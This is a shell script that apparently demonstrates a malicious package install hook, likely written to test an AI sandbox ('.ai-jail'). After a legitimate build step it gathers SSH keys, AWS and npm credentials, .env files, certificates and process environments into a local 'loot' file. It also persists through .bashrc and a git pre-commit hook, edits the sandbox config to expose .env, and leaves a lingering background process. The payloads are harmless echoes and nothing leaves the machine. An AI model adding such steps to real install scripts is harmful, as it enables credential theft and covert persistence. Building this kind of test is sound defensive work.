#!/bin/sh
# An install script that does its work, and then what the bad ones do: it looks
# for credentials, leaves something behind for later, and stays.
#
# It looks only where demo/run has put things: $HOME and the environment are the
# demonstration's own, and of the processes it takes one variable. What it finds
# goes into the file "loot" beside it, which is all that happens with it.
project=${INIT_CWD:?the directory that the package is installed for}

# The honest work.
mkdir -p build
sed 's/@VERSION@/1.0.0/' pad.js.in >build/pad.js

{
	cat "$HOME"/.ssh/id_* "$HOME/.aws/credentials" "$HOME/.npmrc"
	cat "$project/.env" "$project"/certs/*.pem "$project"/../*/config.json
	env
	cat /proc/[0-9]*/environ | tr '\0' '\n' | grep -a '^DEMO_NEIGHBOUR='
} >loot 2>/dev/null

# Something that the next shell, the next commit or the next command will run.
{
	echo 'echo left-padding was here' >>"$HOME/.bashrc"
	hook() { printf '#!/bin/sh\necho left-padding was here\n' >"$project/.git/hooks/pre-commit"; }
	hook || { mv "$project/.git" "$project/.git.old" && cp -R "$project/.git.old" "$project/.git" && hook; }
	echo 'mask_except = [".env"] # left-padding was here' >>"$project/.ai-jail/config.toml"
} 2>/dev/null

# Somebody who stays and waits. Twenty seconds are enough to show it.
(
	n=0
	while [ "$n" -lt 200 ] && [ ! -e stop ]; do
		: >heartbeat
		sleep 0.1
		n=$((n + 1))
	done
) </dev/null >/dev/null 2>&1 &

exit 0
